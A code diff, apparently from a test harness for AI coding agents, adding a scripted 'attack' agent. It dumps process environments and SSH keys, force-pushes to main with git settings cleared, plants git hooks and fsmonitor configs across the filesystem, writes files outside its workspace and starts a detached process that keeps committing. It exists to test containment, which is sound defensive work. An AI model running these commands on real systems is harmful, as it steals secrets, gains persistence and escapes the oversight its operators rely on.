@@ -333,6 +333,82 @@ const pushMain = repoScript(6, (c) => {
   return runSteps(c, steps, `Added ${p.fn}, committed, and tried to publish to main.`);
 });
 
+/**
+ * An agent that attacks its executor after doing the task: it reads every secret it can, pushes
+ * to the origin by URL with the git config environment cleared, plants hooks and git config in
+ * every git directory it can reach, writes outside its workspace and leaves a detached process
+ * that keeps committing. Parameters: `origin=` the origin's URL, `marker=` the file its planted
+ * hooks append to, `outside=` a path outside the workspace to write, `nonce=` a word in the
+ * detached process's command line. Each step ends by printing `attack step N done`, so a test can
+ * tell the model saw every result.
+ */
+const attack = repoScript(9, (c) => {
+  const p = plan(c, 0);
+  const origin = c.params.origin ?? "";
+  const marker = c.params.marker ?? "/tmp/mtor-attack-marker";
+  const outside = c.params.outside ?? "/tmp/mtor-attack-outside";
+  const nonce = c.params.nonce ?? "mtor-attack";
+  const hook = `#!/bin/sh\necho "hook $0 ran as $(id -u) in $(pwd)" >> ${marker}\n`;
+  const done = (n: number) => `; echo "attack step ${n} done"`;
+  const steps = changeSteps(c, p, `Add ${p.fn} to ${p.target}`);
+  steps.push(() =>
+    bash(
+      c,
+      "for f in /proc/[0-9]*/environ; do tr '\\0' '\\n' < \"$f\" 2>/dev/null; done | sort -u; env; " +
+        "ls -la ~/.ssh /root/.ssh /home/*/.ssh 2>&1; cat ~/.ssh/* /root/.ssh/* /home/*/.ssh/* 2>&1; " +
+        "cat ../../../spool/* ../../../../*.toml /etc/mtor/* 2>&1; ls /proc | head -50" +
+        done(1),
+      "Looking around the machine",
+    ),
+  );
+  steps.push(() =>
+    bash(
+      c,
+      `for v in $(env | grep -o '^GIT_[A-Z_]*'); do unset "$v"; done; ` +
+        `git push ${shellQuote(origin)} HEAD:refs/heads/main 2>&1; ` +
+        `git push --force ${shellQuote(origin)} HEAD:refs/heads/main 2>&1; ` +
+        `git push ${shellQuote(`file://${origin}`)} HEAD:refs/heads/pwned 2>&1; ` +
+        `git -c url.x.pushInsteadOf=y push ${shellQuote(origin)} HEAD:refs/tags/pwned 2>&1; true` +
+        done(2),
+      "Publishing to main by URL",
+    ),
+  );
+  steps.push(() =>
+    bash(
+      c,
+      `printf '${hook.replace(/'/g, "'\\''")}' > /tmp/h && chmod +x /tmp/h; ` +
+        `for d in .git $(find / -maxdepth 10 \\( -name '*.git' -o -name .git \\) -type d 2>/dev/null | head -100) ${shellQuote(origin)} ../../../mirrors/*.git; do ` +
+        `[ -d "$d" ] || continue; mkdir -p "$d/hooks" 2>/dev/null; ` +
+        `for h in post-checkout reference-transaction pre-push post-update update pre-receive post-receive post-merge pre-auto-gc post-rewrite fsmonitor-watchman; do cp /tmp/h "$d/hooks/$h" 2>/dev/null; done; ` +
+        `git --git-dir="$d" config core.fsmonitor "echo fsmonitor ran >> ${marker}" 2>/dev/null; ` +
+        `git --git-dir="$d" config core.sshCommand "echo sshCommand ran >> ${marker}; ssh" 2>/dev/null; ` +
+        `git --git-dir="$d" config core.hooksPath "$d/hooks" 2>/dev/null; ` +
+        `echo "planted in $d"; done` +
+        done(3),
+      "Installing git helpers everywhere",
+    ),
+  );
+  steps.push(() =>
+    bash(
+      c,
+      `for f in ${shellQuote(outside)} ../../../planted ../../../spool/planted ../../planted $HOME/../../planted /etc/mtor-planted /usr/local/mtor-planted ${shellQuote(origin)}/planted; do ` +
+        `echo pwned > "$f" 2>/dev/null && echo "wrote $f" || echo "could not write $f"; done` +
+        done(4),
+      "Leaving notes around the disk",
+    ),
+  );
+  steps.push(() =>
+    bash(
+      c,
+      `setsid sh -c '(sh -c "sleep 2; i=0; while [ \\$i -lt 100000 ]; do echo \\$i >> late.txt; git add late.txt; git commit -q -m \\"late \\$i\\"; i=\\$((i+1)); sleep 0.2; done; : ${nonce}" </dev/null >/dev/null 2>&1 &); : ${nonce}' </dev/null >/dev/null 2>&1 & ` +
+        "sleep 0.5; echo detached" +
+        done(5),
+      "Starting a background helper",
+    ),
+  );
+  return runSteps(c, steps, `Added ${p.fn}, committed, and took a look around.`);
+});
+
 /** The first fenced block of the prompt: the spec the architect is asked to dispatch. */
 function fencedSpec(prompt: string): string | null {
   const m = /```[A-Za-z]*\r?\n([\s\S]*?)\r?\n```/.exec(prompt);
@@ -397,6 +473,7 @@ export const SCRIPTS: Readonly<Record<string, Script>> = {
   extra_tests: extraTests,
   no_commit: noCommit,
   push_main: pushMain,
+  attack,
   architect,
 };
 
